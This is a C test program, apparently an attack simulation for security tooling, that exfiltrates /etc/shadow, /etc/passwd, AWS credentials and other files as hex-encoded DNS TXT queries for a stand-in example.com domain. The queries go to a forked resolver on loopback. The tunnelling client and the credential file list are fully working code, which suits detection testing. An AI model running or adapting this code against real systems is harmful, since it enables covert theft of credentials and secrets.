// SPDX-License-Identifier: GPL-2.0
/*
 * DNS tunnelling: exfiltrate files as hex labels of TXT queries
 * (<chunk>.<seq>.t.example.com) over UDP to a loopback "resolver" (a forked
 * child), waiting for each answer as a tunnel client does. Succeeds when
 * the resolver answered them all.
 */
#include "common.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <unistd.h>

#define CHUNK 30 /* bytes a query: 60 hex digits, within a 63-byte label */

static const char *const loot[] = { "/etc/passwd", "/etc/shadow",
				    "/etc/hosts", "/proc/version",
				    "/root/.aws/credentials" };

/* A DNS query for the TXT record of name; returns its length. */
static size_t build_query(unsigned char *pkt, unsigned int id, const char *name)
{
	const unsigned char header[12] = { (unsigned char)(id >> 8), id & 0xff, 1, 0,
					   0, 1, 0, 0, 0, 0, 0, 0 };
	size_t len = sizeof(header);

	memcpy(pkt, header, sizeof(header));
	while (*name) {
		size_t label = strcspn(name, ".");

		pkt[len++] = (unsigned char)label;
		memcpy(pkt + len, name, label);
		len += label;
		name += label + (name[label] == '.');
	}
	pkt[len++] = 0;
	memcpy(pkt + len, "\x00\x10\x00\x01", 4); /* TXT, IN */
	return len + 4;
}

/* Answers every query with an empty reply; exits when "end" arrives. */
static noreturn void resolver(int fd)
{
	struct timeval timeout = { .tv_sec = 10 };
	unsigned char pkt[512];
	int queries = 0;

	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof(timeout));
	for (;;) {
		struct sockaddr_in peer;
		socklen_t len = sizeof(peer);
		ssize_t n = recvfrom(fd, pkt, sizeof(pkt), 0,
				     (struct sockaddr *)&peer, &len);

		if (n < 13)
			break;
		queries++;
		pkt[2] |= 0x80; /* a response */
		sendto(fd, pkt, (size_t)n, 0, (struct sockaddr *)&peer, len);
		if (pkt[12] == 3 && !memcmp(pkt + 13, "end", 3))
			break;
	}
	printf("dnsexfil: resolver answered %d queries\n", queries);
	fflush(stdout);
	_exit(queries > 1 ? 0 : 1);
}

/* One query with label as its first label; waits for the answer. */
static void query(int fd, const char *label)
{
	static unsigned int seq;
	unsigned char pkt[512];
	char name[256];
	size_t len;

	snprintf(name, sizeof(name), "%s.%u.t.example.com", label, seq);
	len = build_query(pkt, seq++, name);
	if (send(fd, pkt, len, 0) < 0 || recv(fd, pkt, sizeof(pkt), 0) <= 0)
		attack_die("query");
}

int main(void)
{
	struct sockaddr_in addr = { .sin_family = AF_INET };
	struct timeval timeout = { .tv_sec = 5 };
	socklen_t alen = sizeof(addr);
	int fd, status, queries = 0;
	pid_t pid;

	attack_announce("dnsexfil", getpid());
	addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || bind(fd, (struct sockaddr *)&addr, sizeof(addr)) < 0 ||
	    getsockname(fd, (struct sockaddr *)&addr, &alen) < 0)
		attack_die("resolver socket");
	pid = fork();
	if (pid < 0)
		attack_die("fork");
	if (pid == 0)
		resolver(fd);
	close(fd);

	fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || connect(fd, (struct sockaddr *)&addr, sizeof(addr)) < 0)
		attack_die("socket");
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof(timeout));
	for (size_t i = 0; i < ARRAY_SIZE(loot); i++) {
		unsigned char data[CHUNK];
		int in = open(loot[i], O_RDONLY);
		ssize_t n;

		while (in >= 0 && (n = read(in, data, sizeof(data))) > 0) {
			char hex[2 * CHUNK + 1];

			for (ssize_t j = 0; j < n; j++)
				sprintf(hex + 2 * j, "%02x", data[j]);
			query(fd, hex);
			queries++;
		}
		if (in >= 0)
			close(in);
	}
	query(fd, "end");
	printf("dnsexfil: sent %d chunks\n", queries);
	fflush(stdout);
	if (waitpid(pid, &status, 0) < 0)
		attack_die("waitpid");
	return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}
